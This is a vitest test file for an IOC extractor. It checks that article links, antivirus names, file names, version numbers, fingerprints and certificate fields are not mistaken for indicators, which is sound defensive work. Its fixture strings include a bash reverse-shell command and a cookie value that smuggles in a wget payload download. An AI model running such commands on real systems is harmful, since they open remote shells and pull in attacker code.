// Look-alikes that are not IOCs (spec: user needs #9). Sentences marked AA25-141A /
// AA25-163A are copied from those CISA advisories (public domain; see test/fixtures/README.md).
import { describe, expect, it } from 'vitest';
import { extractIocs } from '../../../src/extract/index.js';

function values(text: string, articleUrl?: string): string[] {
  return extractIocs(text, { html: false, ...(articleUrl === undefined ? {} : { articleUrl }) }).iocs.map((ioc) => `${ioc.type} ${ioc.value}`);
}

describe("the article's own URL and site", () => {
  const url = 'https://www.bleepingcomputer.com/news/security/new-loader-targets-banks/';

  it('drops the article URL, its domain and other pages of the same site', () => {
    const text =
      'Originally published at https://www.bleepingcomputer.com/news/security/new-loader-targets-banks/ and mirrored at bleepingcomputer.com. ' +
      'See also https://www.bleepingcomputer.com/news/security/older-story/ for background. The loader calls update-cdn[.]info.';
    expect(values(text, url)).toEqual(['domain update-cdn.info']);
  });

  it('knows no site of its own when no article URL is given', () => {
    const extraction = extractIocs('The stealer posted to hxxps://reports.example-blog[.]net/x/ today.', { html: false });
    expect(extraction.iocs.map((ioc) => ioc.value)).toEqual(['https://reports.example-blog.net/x/']);
  });

  it("the article's own pages are its references", () => {
    const extraction = extractIocs(`Originally published at ${url}.`, { html: false, articleUrl: url });
    expect(extraction.references.map((r) => [r.value, r.reason])).toEqual([[url, 'own_site']]);
  });

  it('a site on a shared platform is only its own subdomain', () => {
    const text = 'Read more at https://researcher.github.io/posts/2 today. The loader came from https://attacker.github.io/x.js today.';
    expect(values(text, 'https://researcher.github.io/posts/1')).toEqual(['url https://attacker.github.io/x.js']);
  });
});

describe('anti-virus detection names (ioc-finder #279)', () => {
  it.each([
    'Fortinet detects it as W64/BURNTCIGAR.CA!tr and blocks it.',
    'Defender reports Trojan:Win32/Qakbot.PA!MTB on the host.',
    'Kaspersky names it HEUR:Trojan.Win32.Agent.gen in its logs.',
    'Another engine calls it Trojan.Win32.Generic.ab today.',
  ])('%s', (text) => {
    expect(values(text)).toEqual([]);
  });

  it('a real domain next to an AV name is kept', () => {
    expect(values('Detected as W64/BURNTCIGAR.CA!tr; it called back to burntcigar-c2[.]ca daily.')).toEqual(['domain burntcigar-c2.ca']);
  });
});

describe('file names that look like domains (file2stix #8)', () => {
  it('AA25-141A: archive and script names are not domains', () => {
    const text =
      'Malicious Archive Filenames Involving CVE-2023-38831\n\n- calc.war.zip\n\n- news_week_6.zip\n\n- Roadmap.zip\n\n- SEDE-PV-2023-10-09-1_EN.zip\n\n' +
      'The actors leveraged python scripts to retrieve plaintext passwords via Group Policy Preferences using Get-GPPPassword.py and a modified ldap-dump.py.';
    expect(values(text)).toEqual(['cve CVE-2023-38831']);
  });

  it('AA25-163A: executables are not domains', () => {
    expect(values('Search for any suspicious or anomalous executables with three alphabetic letter filenames (e.g., aaa.exe, bbb.exe, etc.).')).toEqual([]);
  });

  it('the same TLDs are domains when the author defangs them or gives a scheme', () => {
    expect(values('The lure pointed to invoice-review[.]zip and to https://github-update.mov/x today.')).toEqual([
      'domain invoice-review.zip',
      'url https://github-update.mov/x',
    ]);
  });

  it('.pl is a country: kept, unless the sentence speaks of a script', () => {
    expect(values('The phishing kit was hosted on poczta-logowanie.pl last week.')).toEqual(['domain poczta-logowanie.pl']);
    expect(values('The attackers ran the Perl script backup.pl on the server.')).toEqual([]);
  });
});

describe('version numbers that look like IPs', () => {
  it.each([
    'Upgrade SimpleHelp to version 5.5.7.1 or later.',
    'Affected builds: 16.0.x before 16.0.1.1, 15.1.x before 15.1.2.1.',
    'Versions 5.1.3.001 through 9.2.0.006 are vulnerable.',
    'Firmware 1.0.0.1 and later is fixed.',
  ])('%s', (text) => {
    expect(values(text).filter((value) => value.startsWith('ipv4'))).toEqual([]);
  });

  it('AA25-163A: a three-part version is no IP at all', () => {
    expect(values('SimpleHelp versions 5.5.7 and earlier contain several vulnerabilities, including CVE-2024-57727.')).toEqual(['cve CVE-2024-57727']);
  });

  it('a range of addresses is not a range of versions', () => {
    expect(values('The attackers scanned from 45.77.12.0 through 45.77.12.255 all night.')).toEqual(['ipv4 45.77.12.0', 'ipv4 45.77.12.255']);
  });

  it('a defanged address after "version" is still an address', () => {
    expect(values('The panel (version 2) sat at 45[.]77[.]12[.]9 all along.')).toEqual(['ipv4 45.77.12.9']);
  });
});

describe('other look-alikes', () => {
  it('product names in capitals are not domains', () => {
    expect(values('Progress Telerik UI for ASP.NET AJAX and VB.NET were affected.')).toEqual([]);
  });

  it('no subdomain truncation (maltrail #19281): the whole host is reported', () => {
    expect(values('Phishing pages sat on admin-mcas.ms.secure-login[.]top all week.')).toEqual(['domain admin-mcas.ms.secure-login.top']);
  });

  it('hosts inside a URL or an e-mail are not reported again as domains', () => {
    expect(values('Stage two: hxxps://cdn.evil[.]com/a.js, sent by ops@mail.evil[.]com.')).toEqual([
      'url https://cdn.evil.com/a.js',
      'email ops@mail.evil.com',
    ]);
  });

  it('code and prose with dots but no public suffix are nothing', () => {
    expect(values('It calls System.Net.HttpListener, os.popen and NTDS.dit; e.g. and i.e. are fine; 1.4.12 too.')).toEqual([]);
  });

  it('IPv6: real addresses yes, C++ scopes and clock times no', () => {
    expect(values('The C2 answered on 2a03:2880:f10c:83:face:b00c:0:25de; std::vector and 12:30:45 are not addresses.')).toEqual([
      'ipv6 2a03:2880:f10c:83:face:b00c:0:25de',
    ]);
  });

  it('ip:port keeps the address, CIDR keeps the network', () => {
    expect(values('C2 at 45[.]77[.]12[.]9:8443 and the range 91[.]149[.]0[.]0/16 were seen.')).toEqual(['ipv4 45.77.12.9', 'ipv4 91.149.0.0/16']);
  });
});

/** What an extraction held back, as `reason value`. */
function suppressed(text: string, html = false): string[] {
  return extractIocs(text, { html }).suppressed.map((value) => `${value.reason} ${value.value}`);
}

describe('hashes that are not file hashes', () => {
  it('JA3 and JA3S fingerprints and imphashes, by their label or their column, are not MD5s of files', () => {
    const text = 'The C2 used the TLS client JA3: 72a589da586844d7f0818ce684948eea and the server JA3S 15af977ce25de452b96affa2addb1036; the loader imphash is f34d5f2d4577ed6d9ceec516c1f5a744.';
    expect(values(text)).toEqual([]);
    expect(suppressed(text)).toEqual([
      'not_a_file_hash:ja3 72a589da586844d7f0818ce684948eea',
      'not_a_file_hash:ja3s 15af977ce25de452b96affa2addb1036',
      'not_a_file_hash:imphash f34d5f2d4577ed6d9ceec516c1f5a744',
    ]);
    const table = '<h2>Indicators of Compromise</h2><table><tr><th>MD5</th><th>Imphash</th></tr><tr><td>0f1e2d3c4b5a69788796a5b4c3d2e1f0</td><td>f34d5f2d4577ed6d9ceec516c1f5a744</td></tr></table>';
    expect(extractIocs(table, { html: true }).iocs.map((ioc) => ioc.value)).toEqual(['0f1e2d3c4b5a69788796a5b4c3d2e1f0']);
  });
});

describe("a certificate's fields", () => {
  it('a faked common name and the subject e-mail are no indicators, and the field name is not glued on', () => {
    const text = 'The C2 server presented a certificate with Subject: C=US, O=Microsoft, CN=www.microsoft-update.info, emailAddress=admin@microsoft-update.info';
    expect(values(text)).toEqual([]);
    expect(suppressed(text)).toEqual(['certificate_field www.microsoft-update.info', 'certificate_field admin@microsoft-update.info']);
  });
});

describe('versions, placeholders, command lines, code', () => {
  it('a dotted quad in a patch table\'s version column is a version', () => {
    const html = '<table><tr><th>Product</th><th>Fixed version</th></tr><tr><td>BIG-IP</td><td>14.1.4.4</td></tr></table>';
    expect(extractIocs(html, { html: true }).suppressed.map((v) => [v.value, v.reason])).toEqual([['14.1.4.4', 'version_number']]);
  });

  it('firmware numbers in prose are versions', () => {
    expect(values('The attackers exploited routers on firmware version is 6.50.5.5 or older, the C2 sat at 45[.]77[.]12[.]9.')).toEqual(['ipv4 45.77.12.9']);
  });

  it('xxx.xxx.xxx.xxx and URLs built on it are placeholders', () => {
    const text = 'The malware beacons to its C2 at xxx.xxx.xxx.xxx over hxxp://xxx.xxx.xxx.xxx/gate.php every minute.';
    expect(values(text)).toEqual([]);
    expect(suppressed(text).every((line) => line.startsWith('placeholder '))).toBe(true);
  });

  it('a reverse shell to /dev/tcp names the address, not a URL', () => {
    expect(values('The attackers ran bash -i >& /dev/tcp/45.77.12.9/4444 0>&1 for a reverse shell.')).toEqual(['ipv4 45.77.12.9']);
  });

  it('method calls and file names on word TLDs are code', () => {
    const text = 'The malicious script calls f.read(), then subprocess.call to run reg save hklm\\sam sam.save, and queries process.name.';
    expect(values(text)).toEqual([]);
  });

  it('links run together are two links', () => {
    const extraction = extractIocs('Payload at hxxps://evil-cdn[.]net/a/athletehttps://t.co/AbCdEf123 today.', { html: false });
    expect(extraction.iocs.map((ioc) => ioc.value)).toEqual(['https://evil-cdn.net/a/athlete']);
    expect(extraction.references.map((r) => r.value)).toEqual(['https://t.co/AbCdEf123']);
  });

  it('a name in a file-name column is a file, a defanged one is still a host', () => {
    const text = '== Files\n\n|SHA-1 |Filename |Detection\n|6999730D0715606D14ACD19329AF0685B8AD0299 |et2z7q0FREZ.cr |Win64/Nightclub.B\n';
    expect(values(text)).toEqual(['sha1 6999730d0715606d14acd19329af0685b8ad0299']);
  });
});

describe('a value wrapped inside a table cell', () => {
  it('a URL and a SHA-256 broken by a line break in one cell are joined; two values on two lines are not', () => {
    const html =
      '<h2>Indicators of Compromise</h2><table><tr><td>hxxps://files-update[.]net/download/stage2/<br>payload_x64.bin</td></tr>' +
      '<tr><td>9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd1<br>5d6c15b0f00a08</td></tr>' +
      '<tr><td>hxxp://a-evil[.]com/x<br>b-evil[.]net</td></tr></table>';
    expect(extractIocs(html, { html: true }).iocs.map((ioc) => ioc.value)).toEqual([
      'https://files-update.net/download/stage2/payload_x64.bin',
      '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
      'http://a-evil.com/x',
      'b-evil.net',
    ]);
  });
});

describe('tables that name what their values are', () => {
  it('a cell beside a hash that says TLSH or JA3 makes it no file hash', () => {
    const html = '<h2>Indicators of Compromise</h2><table><tr><td>3B267FA5E1D1B18411C22E97B367258986E871E5</td><td>TLSH</td></tr><tr><td>B66DA4280C6D72ADCC68330F6BD793DF56A853CB</td><td>SHA1</td></tr></table>';
    const extraction = extractIocs(html, { html: true });
    expect(extraction.iocs.map((ioc) => ioc.value)).toEqual(['b66da4280c6d72adcc68330f6bd793df56a853cb']);
    expect(extraction.suppressed.map((v) => v.reason)).toEqual(['not_a_file_hash:tlsh']);
  });

  it("a tool table's Source column holds where a public tool comes from, defanged or not", () => {
    const html =
      '<h2>Indicators of Compromise</h2><table><thead><tr><th>Tool</th><th>Description</th><th>Source</th></tr></thead>' +
      '<tbody><tr><td>IOX</td><td>Open-source proxy, used to reach a C2 server.</td><td>github[.]com/EddieIvan01/iox</td></tr></tbody></table>';
    const extraction = extractIocs(html, { html: true });
    expect(extraction.iocs).toEqual([]);
    expect(extraction.suppressed.map((v) => [v.value, v.reason])).toEqual([['http://github.com/EddieIvan01/iox', 'tool_source']]);
  });
});

describe('what an article names without accusing it', () => {
  it('the brand a phishing domain spoofs, and the victim a campaign targets, are not indicators', () => {
    const spoof = extractIocs("The code posts card data to http://authorizen[.]net/, where the 'n' is added to spoof http://authorize[.]net/, a legitimate processor.", { html: false });
    expect(spoof.iocs.map((ioc) => ioc.value)).toEqual(['http://authorizen.net/']);
    expect(spoof.references.map((r) => [r.value, r.reason])).toEqual([['http://authorize.net/', 'victim']]);
    const victim = extractIocs('We received reports of a phishing campaign targeting crates.io users.', { html: false });
    expect(victim.iocs).toEqual([]);
  });

  it('a Markdown link, an autolink and a markup attribute are links the text cites', () => {
    const text =
      'The malware [report](https://research.example-lab.net/a) and the malware analysis at <https://research.example-lab.net/b>; ' +
      'the malware <img src="https://cdn.example-lab.net/c.png"> too.';
    const extraction = extractIocs(text, { html: false });
    expect(extraction.iocs).toEqual([]);
    expect(extraction.references.map((r) => r.reason)).toEqual(['link', 'link', 'link']);
  });

  it('an address in a heading is an indicator; a number that opens a heading is a section', () => {
    const text = '### 2019-10-28 : Samples hosted at 45.89.106.108\n\n#### 3.2.10.0 USE OF WEAK HASH CWE-328\n';
    const extraction = extractIocs(text, { html: false });
    expect(extraction.iocs.map((ioc) => ioc.value)).toEqual(['45.89.106.108']);
    expect(extraction.suppressed.map((v) => [v.value, v.reason])).toEqual([['3.2.10.0', 'section_number']]);
  });

  it('a session id in a cookie is not a file hash; a host fetched by wget is an indicator', () => {
    const text = 'POST /global_data/ HTTP/1.1 Cookie:CGISESSID=e6f1106605b5e8bee6114a3b5a88c5b4`cd /tmp; wget http://45.89.106.108/richard;';
    const extraction = extractIocs(text, { html: false });
    expect(extraction.iocs.map((ioc) => ioc.value)).toEqual(['http://45.89.106.108/richard']);
    expect(extraction.suppressed.map((v) => v.reason)).toEqual(['not_a_file_hash:cgisessid']);
  });
});
